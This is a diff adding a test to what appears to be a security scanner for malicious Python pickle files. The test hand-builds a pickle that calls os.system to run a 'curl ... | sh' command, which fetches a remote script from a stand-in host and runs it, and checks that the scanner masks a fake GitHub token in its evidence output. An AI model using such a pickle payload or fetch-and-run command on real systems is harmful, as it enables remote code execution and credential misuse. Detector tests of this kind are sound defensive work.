@@ -115,6 +115,21 @@ describe('pickle rules: boundaries (negatives)', () => {
   });
 });
 
+describe('evidence', () => {
+  it('masks credentials carried by payload arguments', async () => {
+    const token = ['ghp', '_', 'Fake0123456789abcdefghijABCDEFGHIJ0123'].join('');
+    const cmd = Buffer.from(`curl -H 'Authorization: token ${token}' https://example.invalid/x.sh | sh`);
+    const len = Buffer.alloc(4);
+    len.writeUInt32LE(cmd.length);
+    const data = Buffer.concat([Buffer.from('\x80\x02cos\nsystem\n(X', 'latin1'), len, cmd, Buffer.from('tR.', 'latin1')]);
+    const findings = await scanBytes(data);
+    const evidence = findings.find((f) => f.ruleId === 'models/pickle-dangerous-global')?.evidence ?? '';
+    assert.ok(evidence.startsWith('os.system("curl -H'), evidence);
+    assert.ok(!evidence.includes(token), evidence);
+    assert.ok(evidence.includes('example.invalid'), evidence);
+  });
+});
+
 describe('pickle-too-large', () => {
   it('reports the size and still analyses the prefix it can read', async () => {
     const data = Buffer.concat([attack('os-system-p2'), Buffer.alloc(200, 0x4e)]);
